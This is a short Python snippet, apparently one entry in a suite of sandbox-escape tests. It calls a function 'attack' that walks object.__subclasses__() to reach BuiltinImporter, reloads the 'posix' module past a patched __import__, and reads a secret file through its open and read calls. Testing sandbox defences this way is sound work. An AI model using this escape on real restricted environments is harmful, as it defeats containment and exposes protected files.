"""Load a fresh module of system functions with the frozen importer, past any patched __import__.

origin: BuiltinImporter.load_module, the standard answer to deleted builtins
why: modules made of C code can be instantiated again, with nothing removed
control: succeeds
"""


def attack(target):
    for cls in object.__subclasses__():
        if cls.__name__ == "BuiltinImporter":
            system = cls.load_module("posix")
            return read_secret(target, descriptor_bytes(system.open, system.read), "open")
    return nothing("the class is not loaded")
